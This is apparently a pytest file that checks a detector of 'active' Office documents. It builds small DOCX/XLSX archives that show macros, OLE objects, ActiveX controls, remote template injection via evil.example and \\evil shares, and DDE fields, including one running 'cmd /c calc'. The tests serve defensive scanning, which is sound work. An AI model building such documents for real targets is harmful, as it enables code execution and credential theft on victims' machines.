"""Office documents that do something, by content types and relations (docs/domain.md, Files that do something)."""

from __future__ import annotations

import io
import zipfile
from typing import Any

import pytest

from utq_portal.files.officeparts import Active, active

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def document(**parts: str | bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def types(*kinds: str) -> str:
    return "<Types>" + "".join(f'<Override ContentType="{kind}"/>' for kind in kinds) + "</Types>"


def relation(kind: str, target: str, mode: str = "External") -> str:
    one = f'<Relationship Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{one}</Relationships>"


def plain(**more: Any) -> bytes:
    return document(**{"[Content_Types].xml": types(WORD), "word/document.xml": "<w:p>Dear DDE reader</w:p>", **more})


HARMLESS = {
    "nothing": plain(),
    "its template on the own disk": plain(
        **{"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:/Users/n/Templates/Normal.dotm")}
    ),
    "a link to the web": plain(
        **{"word/_rels/document.xml.rels": relation("hyperlink", "https://www.example.edu/macro.docm")}
    ),
    "a chart with its workbook": plain(
        **{"word/embeddings/Microsoft_Excel_Sheet.xlsx": document(**{"xl/workbook.xml": "<workbook/>"})}
    ),
    "a workbook that knows another one": plain(
        **{
            "xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "marks.xlsx"),
        }
    ),
    "the number of a page": plain(**{"word/footer1.xml": "<w:instrText> PAGE </w:instrText>"}),
    "no archive": b"PK\x03\x04 but broken",
}
HARMFUL = {
    "docm renamed": (
        Active.MACROS,
        plain(**{"[Content_Types].xml": types("application/vnd.ms-word.document.macroEnabled.main+xml")}),
    ),
    "xlsm renamed": (
        Active.MACROS,
        plain(**{"[Content_Types].xml": types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")}),
    ),
    "a project under any name": (
        Active.MACROS,
        plain(**{"[Content_Types].xml": types(WORD, "application/vnd.ms-office.vbaProject"), "word/notes.bin": b"x"}),
    ),
    "a project by its relation": (
        Active.MACROS,
        plain(
            **{
                "word/_rels/document.xml.rels": relation("x", "a.bin", "Internal").replace(
                    f"{RELATIONS}/x", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
                )
            }
        ),
    ),
    "a project by its name": (Active.MACROS, plain(**{"word\\VbaProject.BIN": b"x"})),
    "types in UTF-16": (
        Active.MACROS,
        plain(**{"[Content_Types].xml": types("application/vnd.ms-excel.macrosheet+xml").encode("utf-16")}),
    ),
    "a sheet of XLM macros": (Active.MACROS, plain(**{"xl/macrosheets/sheet1.xml": "<macrosheet/>"})),
    "a button that starts a program": (
        Active.MACROS,
        plain(**{"ppt/slides/slide1.xml": '<a:hlinkClick action="ppaction://program"/>'}),
    ),
    "an object": (Active.EMBEDDED, plain(**{"word/embeddings/oleObject1.bin": b"x"})),
    "an object under another name": (
        Active.EMBEDDED,
        plain(**{"word/_rels/document.xml.rels": relation("oleObject", "media/image1.png", "Internal")}),
    ),
    "a control": (Active.EMBEDDED, plain(**{"word/activeX/activeX1.xml": "<ocx/>"})),
    "macros in the workbook of a chart": (
        Active.MACROS,
        plain(**{"word/embeddings/Sheet1.xlsx": document(**{"xl/vbaProject.bin": b"x"})}),
    ),
    "a template on the web": (
        Active.TEMPLATE,
        plain(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")}),
    ),
    "a template on a share": (
        Active.TEMPLATE,
        plain(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", r"\\evil\t.dotm")}),
    ),
    "a template on a share, as an address": (
        Active.TEMPLATE,
        plain(**{"word/_rels/settings.xml.rels": relation("attachedTemplate", r"file:///\\evil\t.dotm")}),
    ),
    "an object from the web": (
        Active.FETCHES,
        plain(**{"word/_rels/document.xml.rels": relation("oleObject", "http://evil.example/x")}),
    ),
    "a field that asks a program": (
        Active.FETCHES,
        plain(**{"word/document.xml": "<w:instrText>DDEA</w:instrText><w:r/><w:instrText>UTO c:\\\\x</w:instrText>"}),
    ),
    "a plain field that asks a program": (
        Active.FETCHES,
        plain(**{"word/document.xml": '<w:fldSimple w:instr="DDE excel x"/>'}),
    ),
    "a sheet that asks a program": (
        Active.FETCHES,
        plain(**{"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'}),
    ),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_an_ordinary_document_is_kept(name: str) -> None:
    assert active(io.BytesIO(HARMLESS[name])) is None


@pytest.mark.parametrize("name", HARMFUL)
def test_what_does_something_by_itself_is_found(name: str) -> None:
    kind, content = HARMFUL[name]
    assert active(io.BytesIO(content)) == kind
